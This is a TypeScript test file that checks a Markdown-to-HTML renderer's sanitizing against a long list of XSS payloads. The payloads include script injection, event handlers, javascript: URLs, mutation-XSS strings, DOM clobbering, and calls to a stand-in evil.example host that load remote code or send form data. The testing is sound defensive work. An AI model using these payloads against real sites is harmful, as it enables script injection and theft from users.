import type { Element, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import rehypeStringify from 'rehype-stringify';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, it } from 'vitest';
import { aBody } from './testing.ts';

const browser = unified().use(rehypeRaw).use(rehypeStringify).freeze();

/** The HTML as a browser reads it. */
const read = (html: string): Root =>
  browser.runSync({ type: 'root', children: [{ type: 'raw', value: html }] }) as Root;

const elements = new Set(
  (
    'a abbr b bdi blockquote br cite code data dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li ' +
    'mark ol p pre q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ' +
    'ul var wbr'
  ).split(' '),
);
const attributes = new Set(
  (
    'abbr alt ariaDescribedBy ariaLabel ariaLabelledBy cite className colSpan dataFootnoteBackref dataFootnoteRef ' +
    'dataFootnotes dateTime decoding dir headers height href id lang loading open rel reversed rowSpan scope src start ' +
    'tabIndex title value width'
  ).split(' '),
);
const protocols = new Set(['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:']);

/** Everything in an element that could run code, load something, or take the place of something of the page. */
const dangersOf = ({ tagName, properties }: Element): string[] => [
  ...(elements.has(tagName) ? [] : [`<${tagName}>`]),
  ...Object.entries(properties).flatMap(([name, value]) => {
    // The program's own: what a writer gives is taken away.
    if (name === 'role' && (value === 'img' || value === 'note')) return [];
    if (!attributes.has(name)) return [`${tagName} ${name}`];
    if (name === 'id' && !String(value).startsWith('opening.')) return [`id ${value}`];
    if (!['href', 'src', 'cite'].includes(name)) return [];
    // `URL` drops tabs, newlines and leading controls, as browsers do.
    const address = URL.parse(String(value), 'https://recaps.example.org/gala/opening/');
    return address && protocols.has(address.protocol) ? [] : [`${name} ${value}`];
  }),
];

const dangersIn = (html: string): string[] => {
  const found: string[] = [];
  visit(read(html), (node) => {
    if (node.type === 'element') found.push(...dangersOf(node));
    if (node.type === 'comment' || node.type === 'doctype') found.push(node.type);
  });
  return found;
};

const payloads = [
  // Scripts
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'text <script type="module">import("//evil.example")</script> text',
  '<<script>alert(1)//<</script>',
  '<script>/*\n\n*/alert(1)\n\n</script>',
  '\\<script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<div><template shadowrootmode="open"><slot onslotchange=alert(1)></slot></template></div>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" alt="a">',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<b onmouseover=alert(1)>b</b>',
  '<b/onclick=alert(1)//>b</b>',
  '<details open ontoggle=alert(1)><summary>s</summary></details>',
  '<p onpointerenter="alert(1)" tabindex=1 autofocus onfocus=alert(1)>p</p>',
  '<kbd accesskey="x" onclick="alert(1)" contenteditable oninput="alert(1)">x</kbd>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><head><title>x</title></head><body onpageshow=alert(1)></body></html>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)><select onfocus=alert(1)></select><textarea onfocus=alert(1)></textarea>',
  '<button popovertarget=x onclick=alert(1)>b</button><div popover id=x onbeforetoggle=alert(1)>d</div>',
  '<xss style="animation-name:x" onanimationstart=alert(1)>x</xss>',
  // Addresses in HTML
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#x6A;&#97vascript&colon;alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="&#x20;&NewLine;java&Tab;script&colon;alert(1)">a</a>',
  '<a href="javascript&#58;//https://a.example/%0Aalert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="blob:https://a.example/1">a</a> <a href="file:///etc/passwd">b</a> <a href="view-source:x">c</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="a">',
  '<img srcset="x 1x, javascript:alert(1) 2x" sizes=1 src=x alt=a>',
  '<img src=x alt=a lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)" longdesc="javascript:alert(1)">',
  '<picture><source srcset="//evil.example/x.png"><img src="x.png" alt="a"></picture>',
  '<blockquote cite="javascript:alert(1)">q</blockquote><q cite="data:text/html,x">q</q>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<a ping="//evil.example" href="https://a.example" target="_blank" download>a</a>',
  // Addresses in Markdown
  '[a](javascript:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](JAVASCRIPT:alert%281%29)',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&colon;alert(1))',
  '[a](javascript\\:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '[a]: <vbscript:x> "t"\n\n[a]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '![a" onerror="alert(1)](x.png)',
  '![a](x.png "t\\" onerror=\\"alert(1)")',
  '[a](x.md "t\' onclick=\'alert(1)")',
  '[![a](x" onerror="alert(1))](javascript:alert(1))',
  '[a](https://a.example"onclick="alert(1))',
  'https://a.example/"onmouseover="alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  'a[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> |\n|---|\n| [a](javascript:alert(1)) |',
  // Embedding and documents
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<applet code=x></applet><frameset><frame src="javascript:alert(1)"></frameset>',
  '<portal src="//evil.example"></portal><fencedframe></fencedframe>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css"><link rel=import href=data:text/html,x>',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example/x)">p</p><div style="position:fixed;inset:0">d</div>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">b</button></form>',
  '<isindex action="javascript:alert(1)"><keygen autofocus>',
  '<dialog open>d</dialog><slot></slot><plaintext>rest',
  // SVG and MathML
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><style>*{background:url(//evil.example)}</style></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  // What changes its meaning when it is read twice
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg><desc><title></svg><img src=x onerror=alert(1)></title></desc></svg>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<select><template><style><!--</template><a id="--><img src=x onerror=alert(1)>"></select>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- a --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php ><img src=x onerror=alert(1)> ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<p title="<!-- --><img src=x onerror=alert(1)>">p</p>',
  '<table><tr><td><p><table><script>alert(1)</script><caption onclick=alert(1)>',
  '<a href="https://a.example"><a href="javascript:alert(1)">b</a></a>',
  '<pre>\n\n<img src=x onerror=alert(1)></pre>',
  '<div\u0000onclick=alert(1)>x</div> <scr\u0000ipt>alert(1)</scr\u0000ipt>',
  // Taking the place of names in the page
  '<p id="body">x</p> <a id=location href="https://evil.example">x</a>',
  '<img name="getElementById" src=x alt=a><img id="documentElement" src=x alt=a>',
  '<a id=config></a><a id=config name=url href="https://evil.example">x</a>',
  '<div id="__proto__">x</div><div id="constructor">y</div><div id="">z</div>',
  '<section data-footnotes id="footnote-label" class="prose visually-hidden">x</section>',
  '<h2 class="sr-only" id="top" slot="x" is="evil-element" part="y" itemprop="z">x</h2>',
  '<evil-element onclick=alert(1)>x</evil-element>',
  '<span data-astro-rerun hx-get="//evil.example" x-data="alert(1)" v-html="x" ng-app>{{constructor.constructor("alert(1)")()}}</span>',
];

describe('HTML and addresses in Markdown', () => {
  it.each(payloads)('cannot do harm: %j', (payload) => {
    const body = aBody(payload);
    for (const html of [body.html, ...body.blocks, body.absoluteHtml]) expect(dangersIn(html), html).toEqual([]);
  });

  it.each(payloads)('cannot do harm within a list, a quotation and a table: %j', (payload) => {
    const line = payload.replaceAll('\n', ' ');
    expect(dangersIn(aBody(`- > ${line}\n\n| a |\n|---|\n| ${line} |\n\n<div>${line}</div>`).html)).toEqual([]);
  });

  it.each(payloads)('mean the same when they are read again: %j', (payload) => {
    const { html } = aBody(payload);
    const again = browser.stringify(read(html));
    expect(browser.stringify(read(again))).toBe(again);
  });

  it('are many', () => {
    expect(new Set(payloads).size).toBe(payloads.length);
    expect(payloads.length).toBeGreaterThan(100);
  });
});

describe('the check of these tests', () => {
  it.each([
    ['<p onclick="x">p</p>', ['p onClick']],
    ['<p style="x">p</p>', ['p style']],
    ['<p id="body">p</p>', ['id body']],
    ['<a href="java\tscript:x">a</a>', ['href java\tscript:x']],
    ['<img src="data:,x">', ['src data:,x']],
    ['<svg><script>x</script></svg>', ['<svg>', '<script>']],
    ['<!-- x -->', ['comment']],
  ])('sees the danger in %s', (html, dangers) => {
    expect(dangersIn(html)).toEqual(dangers);
  });
});

describe('text that only looks dangerous', () => {
  it('is shown as it was written', () => {
    expect(aBody('`<script>` and 1 < 2 & "x" \\<b>').html).toBe(
      '<p><code>&#x3C;script></code> and 1 &#x3C; 2 &#x26; "x" &#x3C;b></p>',
    );
  });

  it('is lost together with a script or a style sheet, and nothing else is', () => {
    expect(aBody('a <script>x</script><style>y</style><blink>b</blink> c').html).toBe('<p>a b c</p>');
  });
});
